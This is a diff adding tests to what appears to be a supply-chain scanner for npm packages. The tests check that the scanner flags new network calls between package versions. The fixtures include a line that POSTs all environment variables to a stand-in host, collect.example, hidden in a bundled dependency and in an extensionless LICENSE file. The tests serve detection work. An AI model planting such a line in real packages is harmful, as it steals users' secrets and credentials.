@@ -46,6 +46,21 @@ describe('the model case', () => {
   });
 });
 
+describe('code where nobody looks', () => {
+  const SENDS = "fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(process.env) });\n";
+  const base = { 'package.json': JSON.stringify({ name: 'a-package', version: '1.0.0', main: 'index.js', bundleDependencies: ['inner'] }), 'index.js': "require('inner');\n", 'node_modules/inner/package.json': '{"name":"inner","version":"1.0.0"}', 'node_modules/inner/index.js': 'exports.a = 1;\n' };
+  const between = async (after: Readonly<Record<string, string>>) => judged(await diffOf(pathWord('old.tgz'), pathWord('new.tgz'), { tree: { 'old.tgz': packed(base), 'new.tgz': packed({ ...base, ...after }) } }));
+
+  test('of a package that is bundled', async () => {
+    expect(await between({ 'node_modules/inner/index.js': `${base['node_modules/inner/index.js']}${SENDS}` })).toContain('new new-network-destination');
+    expect(await between({ 'node_modules/inner/index.js': 'exports.a = 2;\n' })).toEqual([]);
+  });
+
+  test('in a file without an extension', async () => {
+    expect(await between({ 'index.js': `${base['index.js']}require('./LICENSE');\n`, LICENSE: SENDS })).toContain('new new-network-destination');
+  });
+});
+
 describe('what was there before', () => {
   test('a finding of both copies is kept', async () => {
     const bad = modelCase('1.0.16');
